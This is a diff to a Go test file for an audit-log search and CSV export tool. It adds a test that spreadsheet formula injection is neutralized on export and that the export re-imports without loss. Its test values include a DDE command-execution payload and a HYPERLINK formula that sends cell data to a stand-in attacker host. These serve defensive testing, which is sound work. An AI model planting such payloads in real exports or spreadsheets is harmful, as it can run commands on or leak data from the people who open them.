@@ -363,16 +363,68 @@ func TestArchiveAnswersLikeElasticsearch(t *testing.T) {
 		var fromES, fromArchive bytes.Buffer
 		n1, err := Search(context.Background(), SearchOptions{ES: s.client, Query: q, Size: 200, Page: 2, Output: JSON, Out: &fromES, TZ: time.UTC})
 		require.NoError(t, err, name)
-		n2, err := SearchArchive(Archive{Dir: dir}, q, 200, 2, JSON, time.UTC, &fromArchive)
+		n2, err := SearchArchive(context.Background(), &Archive{Dir: dir}, q, 200, 2, JSON, time.UTC, &fromArchive)
 		require.NoError(t, err, name)
 		assert.Equal(t, n1, n2, name)
 		assert.Positive(t, n1, name)
 		assert.Equal(t, ids(fromES.Bytes()), ids(fromArchive.Bytes()), name)
 	}
 	var csvOut bytes.Buffer
-	n, err := ExportArchive(Archive{Dir: dir}, auditquery.Query{}, CSV, &csvOut)
+	n, err := ExportArchive(context.Background(), &Archive{Dir: dir}, auditquery.Query{}, CSV, &csvOut)
 	require.NoError(t, err)
 	assert.Equal(t, 2500, n)
-	_, err = SearchArchive(Archive{Dir: t.TempDir()}, auditquery.Query{}, 10, 1, JSON, time.UTC, io.Discard)
+	_, err = SearchArchive(context.Background(), &Archive{Dir: t.TempDir()}, auditquery.Query{}, 10, 1, JSON, time.UTC, io.Discard)
 	assert.ErrorContains(t, err, "no *.jsonl files")
+}
+
+// formulaValues begin with every character a spreadsheet runs, and with
+// the quote that neutralizes them.
+var formulaValues = []string{
+	`=cmd|' /C calc'!A0`, `@SUM(1+1)`, `=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+1+1`, `-2+3`,
+	"\t=1+1", "\r=1+1", `'=1+1`, `''@x`, `'plain`, `'`,
+}
+
+// A sender's formula is inert in the export, and the export still
+// re-imports without loss: export, import, export give the same file.
+func TestExportNeutralizesFormulasAndRoundTrips(t *testing.T) {
+	a := newStore(t)
+	ld := plog.NewLogs()
+	recs := ld.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords()
+	for i, v := range formulaValues {
+		lr := recs.AppendEmpty()
+		lr.SetTimestamp(pcommon.NewTimestampFromTime(time.Date(2025, 11, 2, 0, 0, i, 0, time.UTC)))
+		lr.SetEventName("report.view")
+		lr.Body().SetStr(v)
+		attrs := lr.Attributes()
+		attrs.PutStr(fields.EventID, fmt.Sprintf("%sid-%d", v, i))
+		attrs.PutStr(fields.UserEmail, "jane@example.com")
+		for _, k := range []string{fields.UserName, fields.UserID, fields.ResourceType, fields.ResourceID, fields.ResourceName, fields.UserAgent, fields.CloudRegion, fields.Organization} {
+			attrs.PutStr(k, v)
+		}
+	}
+	require.NoError(t, a.next.ConsumeLogs(context.Background(), ld))
+	a.refresh(t)
+	var first bytes.Buffer
+	n, err := Export(context.Background(), ExportOptions{ES: a.client, Output: CSV, Out: &first})
+	require.NoError(t, err)
+	require.Equal(t, len(formulaValues), n)
+	rows, err := csv.NewReader(bytes.NewReader(first.Bytes())).ReadAll()
+	require.NoError(t, err)
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" {
+				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q in row %q", cell, row)
+			}
+		}
+	}
+	assert.Contains(t, first.String(), `'=cmd|' /C calc'!A0`)
+
+	b := newStore(t)
+	importCSV(t, b, first.Bytes())
+	b.refresh(t)
+	var second bytes.Buffer
+	n, err = Export(context.Background(), ExportOptions{ES: b.client, Output: CSV, Out: &second})
+	require.NoError(t, err)
+	require.Equal(t, len(formulaValues), n)
+	assert.Equal(t, first.String(), second.String(), "export, import, export: identical")
 }
